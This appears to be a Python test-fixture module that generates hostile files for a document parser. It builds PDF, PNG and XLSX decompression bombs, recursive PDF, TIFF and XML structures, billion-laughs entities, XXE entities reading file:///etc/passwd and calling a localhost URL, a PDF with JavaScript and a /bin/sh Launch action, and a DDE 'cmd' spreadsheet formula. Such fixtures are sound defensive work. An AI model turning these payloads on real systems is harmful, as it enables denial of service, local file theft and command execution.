"""Files made to harm who reads them: bombs, loops, floods, entities, macros, and whatever would be fetched."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence

MIB = 1 << 20
# Where a file that has something fetched would have it fetched from.
URL = "http://127.0.0.1:{port}/fetched"


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(
        out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    )


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >> stream\n%s\nendstream" % (len(data), entries, data)


def deflated(chunk: bytes, times: int) -> bytes:
    """The chunk so many times over, compressed once: after a full flush a block knows nothing of those before it."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * times + packer.flush()


def paged(content: bytes, *more: bytes, catalogue: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF of one page with this content stream (object 4)."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % page,
        content,
        *more,
    )


def flate_bomb() -> bytes:
    return paged(stream(deflated(b" " * MIB, 1024), b"/Filter /FlateDecode"))


def double_flate_bomb() -> bytes:
    inner = deflated(b" " * MIB, 1024)
    return paged(stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def page_tree_loop() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 2 /Parent 2 0 R >>",
    )


def form_loop() -> bytes:
    """A drawing that draws itself."""
    form = stream(
        b"/F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    )
    return paged(stream(b"/F Do"), form, page=b"/Resources << /XObject << /F 5 0 R >> >>")


def ten_thousand_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 10_003))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % kids,
        *[page] * 10_000,
    )


def million_words() -> bytes:
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    text = b"BT /F 4 Tf 9 9 Td " + b"(Menge 1,00) Tj " * 300_000 + b"ET"
    return paged(
        stream(zlib.compress(text), b"/Filter /FlateDecode"),
        font,
        page=b"/Resources << /Font << /F 5 0 R >> >>",
    )


def vast_page() -> bytes:
    return paged(stream(b"")).replace(b"[0 0 595 842]", b"[0 0 1e9 1e9]")


def acting_pdf(port: int) -> bytes:
    """It would run a script, call an address and start a program, were it opened by a reader that does."""
    address = URL.format(port=port).encode()
    return paged(
        stream(b""),
        b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\)) /Next [6 0 R 7 0 R] >>" % address,
        b"<< /S /URI /URI (%s) >>" % address,
        b"<< /S /Launch /F (/bin/sh) /Next 8 0 R >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % address,
        catalogue=b"/OpenAction 5 0 R",
    )


def png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pixel_flood() -> bytes:
    return png(60_000, 60_000, deflated(bytes(MIB), 64))


def tiff_of_loops() -> bytes:
    """A TIFF whose directory says that it is followed by itself."""
    entry = struct.pack("<HHII", 256, 3, 1, 400)
    return b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)


def laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
    )
    return f"<?xml version='1.0'?><!DOCTYPE Order [{entities}]>{ubl('&l11;')}".encode()


def outer_entity(port: int) -> bytes:
    address = URL.format(port=port)
    return (
        f'<!DOCTYPE Order SYSTEM "{address}.dtd" [<!ENTITY a SYSTEM "{address}"><!ENTITY % p SYSTEM "{address}">'
        f'<!ENTITY f SYSTEM "file:///etc/passwd">%p;]>{ubl("&a;&f;")}'
    ).encode()


def ubl(number: str) -> str:
    ns = "urn:oasis:names:specification:ubl:schema:xsd:"
    return (
        f'<Order xmlns="{ns}Order-2" xmlns:cbc="{ns}CommonBasicComponents-2"><cbc:ID>{number}</cbc:ID>'
        "<cbc:IssueDate>2026-11-02</cbc:IssueDate></Order>"
    )


def deep_xml() -> bytes:
    return b"<Order>" * 200_000 + b"</Order>" * 200_000


def zipped(members: Sequence[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def workbook(sheet: bytes, *more: tuple[str, bytes]) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    return zipped(
        [
            (
                "[Content_Types].xml",
                f'<Types xmlns="{package}content-types"><Default Extension="rels" ContentType='
                f'"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
                f'ContentType="{kind}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
                f'ContentType="{kind}worksheet+xml"/></Types>'.encode(),
            ),
            (
                "_rels/.rels",
                f'<Relationships xmlns="{package}relationships"><Relationship Id="r" Type="{office}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'.encode(),
            ),
            (
                "xl/workbook.xml",
                f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="s"/></sheets>'
                "</workbook>".encode(),
            ),
            (
                "xl/_rels/workbook.xml.rels",
                f'<Relationships xmlns="{package}relationships"><Relationship Id="s" Type="{office}/worksheet" '
                'Target="worksheets/sheet1.xml"/></Relationships>'.encode(),
            ),
            ("xl/worksheets/sheet1.xml", sheet),
            *more,
        ]
    )


def rows(inside: bytes) -> bytes:
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (main, inside)


def sheet_bomb() -> bytes:
    return workbook(rows(b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 5_000_000))


def sheet_of_entities(port: int) -> bytes:
    evil = b'<!DOCTYPE worksheet [<!ENTITY a SYSTEM "%s">]>' % URL.format(port=port).encode()
    return workbook(evil + rows(b'<row><c t="inlineStr"><is><t>&a;</t></is></c></row>'))


def macros() -> bytes:
    head = b"".join(
        b'<c t="inlineStr"><is><t>%s</t></is></c>' % cell
        for cell in (b"Pos", b"Menge", b"Einzelpreis", b"=cmd|'/c'!A0")
    )
    return workbook(
        rows(b"<row>%s</row>" % head),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)),
    )


def thousands_of_members() -> bytes:
    return workbook(rows(b""), *((f"xl/media/{n}.bin", b"") for n in range(65_000)))


def far_cell() -> bytes:
    return workbook(rows(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'))


def deep_html() -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + b"Bestellung 4711"


def wide_html() -> bytes:
    return b"<html><body><table>" + (b"<tr>" + b"<td colspan=1000 rowspan=65534>1" * 100) * 500


def loading_html(port: int) -> bytes:
    address = URL.format(port=port).encode()
    return (
        b"<html><head><base href='%s'><link rel=stylesheet href='%s'><meta http-equiv=refresh content='0;url=%s'>"
        b"</head><body><img src='%s'><iframe src='%s'></iframe><script src='%s'></script>Auftrag 4711</body></html>"
        % ((address,) * 6)
    )


def endless_csv() -> bytes:
    return b"Pos;Artikel;Menge;Preis\n" + b"1;A;2;3,00\n" * 2_000_000


def open_quote() -> bytes:
    return b'Pos;Artikel;Menge\n1;"' + b"a;b\n" * 1_500_000


def endless_edifact() -> bytes:
    return (
        b"UNA:+.? 'UNB+UNOC:3+A+B+261102:1000+1'UNH+1+ORDERS:D:96A:UN'"
        + b"LIN+1++4000000000000:EN'" * 500_000
    )


def letters() -> bytes:
    """One word of eight million letters, for every pattern that would look for its end."""
    return b"Auftragsnummer: " + b"1234567.890,-" * 150_000


FILES: dict[str, Callable[[], bytes]] = {
    "flate.pdf": flate_bomb,
    "flate-twice.pdf": double_flate_bomb,
    "tree.pdf": page_tree_loop,
    "form.pdf": form_loop,
    "10000-pages.pdf": ten_thousand_pages,
    "words.pdf": million_words,
    "vast.pdf": vast_page,
    "flood.png": pixel_flood,
    "loop.tif": tiff_of_loops,
    "laughs.xml": laughs,
    "deep.xml": deep_xml,
    "bomb.xlsx": sheet_bomb,
    "macros.xlsm": macros,
    "members.xlsx": thousands_of_members,
    "far.xlsx": far_cell,
    "deep.html": deep_html,
    "wide.html": wide_html,
    "endless.csv": endless_csv,
    "quote.csv": open_quote,
    "endless.edi": endless_edifact,
    "letters.txt": letters,
}
# These name an address on this machine that must not hear of them.
CALLING: dict[str, Callable[[int], bytes]] = {
    "acting.pdf": acting_pdf,
    "outer.xml": outer_entity,
    "entities.xlsx": sheet_of_entities,
    "loading.html": loading_html,
}
